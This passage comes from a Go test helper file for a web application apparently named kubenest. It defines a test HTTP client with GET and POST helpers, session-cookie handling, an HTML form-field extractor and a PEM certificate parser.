	resp, _ := b.do(t, req)
	return resp
}

func (b *browser) get200(t *testing.T, path string) (*http.Response, string) {
	t.Helper()
	req, _ := http.NewRequest(http.MethodGet, b.base.String()+path, nil)
	resp, body := b.do(t, req)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET %s: %d\n%s", path, resp.StatusCode, body)
	}
	return resp, body
}

func (b *browser) post(t *testing.T, path string, form url.Values) (*http.Response, string) {
	t.Helper()
	return b.postWith(t, path, form, nil)
}

func (b *browser) postWith(t *testing.T, path string, form url.Values, h http.Header) (*http.Response, string) {
	t.Helper()
	req, _ := http.NewRequest(http.MethodPost, b.base.String()+path, strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	for k, v := range h {
		req.Header[k] = v
	}
	return b.do(t, req)
}

func (b *browser) sessionCookie() *http.Cookie {
	for _, c := range b.hc.Jar.Cookies(b.base) {
		if c.Name == "kubenest_session" {
			return c
		}
	}
	return nil
}

func (b *browser) setSession(value string) {
	b.hc.Jar.SetCookies(b.base, []*http.Cookie{{Name: "kubenest_session", Value: value, Path: "/"}})
}

func clears(resp *http.Response, name string) bool {
	for _, c := range resp.Cookies() {
		if c.Name == name && c.MaxAge < 0 {
			return true
		}
	}
	return false
}

// fieldBlock is the HTML of the form field with the given id, up to the next field.
func fieldBlock(body, id string) string {
	i := strings.Index(body, `id="`+id+`"`)
	if i < 0 {
		return ""
	}
	rest := body[i:]
	if j := strings.Index(rest[1:], `<div class="field`); j >= 0 {
		return rest[:j+1]
	}
	return rest
}

func parseCert(t *testing.T, data []byte) *x509.Certificate {
	t.Helper()
	block, _ := pem.Decode(data)
	if block == nil {
		t.Fatal("no PEM certificate")
	}
	c, err := x509.ParseCertificate(block.Bytes)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func ptr[T any](v T) *T { return &v }
